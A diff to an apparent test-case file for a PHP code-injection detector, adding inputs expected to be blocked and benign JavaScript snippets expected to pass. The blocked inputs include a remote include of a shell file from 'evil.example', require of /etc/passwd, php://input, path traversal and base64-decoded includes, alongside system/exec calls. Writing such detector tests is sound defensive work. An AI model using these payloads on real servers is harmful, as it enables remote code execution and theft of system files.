@@ -38,6 +38,12 @@ export const phpCases: readonly PhpCase[] = [
   { input: "array_map('system', ['id'])", expect: CALL },
   { input: 'exec/**/("id")', expect: CALL },
   { input: 'exec #note\n("id")', expect: CALL },
+  // Includes of what PHP runs: a URL or wrapper, an absolute or climbing path, a file with an extension.
+  { input: "include('http://evil.example/shell.txt')", expect: CALL, blocks: true },
+  { input: "require_once('/etc/passwd')", expect: CALL, blocks: true },
+  { input: "include('php://input');", expect: CALL, blocks: true },
+  { input: "include('../../uploads/avatar.png')", expect: CALL, blocks: true },
+  { input: 'include(base64_decode($x))', expect: CALL, blocks: true },
   { input: '@passthru("ls")', expect: CALL },
   { input: '\\system("id")', expect: CALL },
   { input: 'file_get_contents("/etc/passwd")', expect: CALL },
@@ -255,4 +261,11 @@ export const phpCases: readonly PhpCase[] = [
   { input: 'sess_short', kind: 'header-value', location: 'header.x-filename', expect: null },
   { input: 'debug = true', expect: null },
   { input: 'Queso Manchego', expect: null },
+  // JavaScript: `require` of a module by name, and a bundler's `include(...)` of filter calls.
+  { input: "var colors = require('@colors/colors');", expect: null },
+  { input: 'const http = require("http")\nconst { stdout } = require("node:process");', expect: null },
+  { input: "require('./worker');", expect: null },
+  { input: "const expr = include(and(or(id(/\\.tsx?$/), id(/\\.jsx?$/)), moduleType('tsx')))", expect: null },
+  // A JS method call, percent-encoded: `%0Aconsole` is a byte glued to a word, not a number to concatenate.
+  { input: "outputs%20green%20text%0Aconsole.log(colors.red.underline('i%20like%20cake'))", expect: null },
 ];
